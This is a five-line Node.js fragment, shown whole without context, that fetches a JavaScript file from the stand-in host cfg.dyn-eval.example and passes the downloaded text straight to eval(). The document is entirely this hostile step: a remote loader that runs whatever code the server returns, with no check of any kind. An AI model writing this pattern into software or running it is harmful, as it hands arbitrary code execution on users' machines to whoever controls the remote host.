require('https').get('https://cfg.dyn-eval.example/plugin.js', (res) => {
  let src = '';
  res.on('data', (c) => (src += c));
  res.on('end', () => eval(src));
});
